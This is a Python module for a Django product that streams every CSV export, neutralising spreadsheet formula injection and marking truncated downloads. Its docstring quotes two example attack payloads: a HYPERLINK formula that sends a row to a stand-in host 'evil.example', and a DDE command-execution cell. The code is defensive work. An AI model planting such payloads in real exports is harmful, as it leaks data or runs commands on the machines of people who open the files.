"""The one CSV writer: every CSV the product serves is streamed through ``csv_response``.

CSV files are opened in spreadsheets, and a spreadsheet runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return it
strips first) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
typed as an applicant reference would leak the row to whoever wrote it.
Following OWASP's advice, every text cell is written quoted and a text
cell that starts with one of those characters gets a leading apostrophe, so
it is shown as text. A formula character that follows a ``;`` or ``,``
inside a cell gets the same apostrophe: a
spreadsheet that splits on ``;`` (many European locales) honours quotes only
at the start of a field, so in ``1,"x;=cmd|' /C calc'!A0;"`` it would
otherwise see the cell ``=cmd|' /C calc'!A0``.

The file starts with a UTF-8 byte-order mark: without it Excel reads the
file in the machine's legacy code page and garbles names with accents.

Numbers (``int``, ``float``, ``Decimal``) are written unquoted and as they
are, so a negative number stays a number; anything typed by a person arrives
here as ``str`` and is neutralised.

**Complete or visibly cut.** An export of a million rows streams for longer
than gunicorn's worker timeout (30 s), and gunicorn kills a sync worker whose
heartbeat stops: the user got a truncated file that looked like any other.
Two defences: while rows are flowing, ``csv_lines`` beats the worker's
heartbeat (``keep_worker_alive_with``, registered by ``gunicorn.conf.py``;
a stream stalled on a client that stops reading still times out), and an
export made with ``end_marker=True`` ends with the line
``# END OF EXPORT: N data rows``. A stream that fails part way (a database
error, a killed worker) never writes that line, so a file without it, or
whose count differs from its rows, is not the whole export.

Lives in ``infrastructure`` because both the applications and the audit
apps export, and every app may import this layer.
"""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import logging
import re
import time
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

logger = logging.getLogger(__name__)

END_MARKER = "# END OF EXPORT: {count} data rows"
# How often a streaming export tells the server's worker supervisor it is alive (well under its timeout).
HEARTBEAT_SECONDS = 5.0
_heartbeat: Callable[[], None] | None = None


def keep_worker_alive_with(notify: Callable[[], None] | None) -> None:
    """Register the serving process's heartbeat (gunicorn's ``worker.notify``), beaten while an export streams."""
    global _heartbeat
    _heartbeat = notify


# What a spreadsheet treats as the start of a formula (tab and CR are
# stripped by some before they look at the next character).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"
# A formula character right after a separator (spaces between allowed).
_AFTER_SEPARATOR = re.compile(r"([;,] *)(?=[=+\-@\t\r\n])")


def safe_cell(value: Any) -> Any:
    """One cell as it is safe to write: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = _AFTER_SEPARATOR.sub(r"\1'", str(value))
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose ``write`` returns the line, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]], *, end_marker: bool = False) -> Iterator[str]:
    """The CSV text of ``rows``, one line at a time, every cell through ``safe_cell``.

    The first row is the header. With ``end_marker``, a last line states how
    many data rows came before it (``END_MARKER``); it is written only once
    every row was. The worker's heartbeat is beaten while lines flow.
    """
    # QUOTE_NONNUMERIC: every text cell quoted (see the module docstring),
    # numbers bare so spreadsheets read them as numbers.
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_NONNUMERIC)
    written = 0
    beaten = time.monotonic()
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])
        written += 1
        if not written & 1023 and _heartbeat is not None:
            now = time.monotonic()
            if now - beaten >= HEARTBEAT_SECONDS:
                _heartbeat()
                beaten = now
    if end_marker:
        yield END_MARKER.format(count=max(written - 1, 0)) + writer.dialect.lineterminator


def _logged(lines: Iterator[str], filename: str) -> Iterator[str]:
    """``lines``, and a log line naming the file if the stream fails part way (the download is then cut short)."""
    try:
        yield from lines
    except Exception:
        logger.exception("CSV export %s failed part way; the download is cut short, without its end line", filename)
        raise


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str, end_marker: bool = False) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows`` (the first row is the header), UTF-8 with a byte-order mark.

    ``end_marker``: the file's last line is ``# END OF EXPORT: N data rows``
    (see the module docstring); a cut stream lacks it.
    """
    lines = _logged(csv_lines(rows, end_marker=end_marker), filename)
    response = StreamingHttpResponse(itertools.chain((BOM,), lines), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
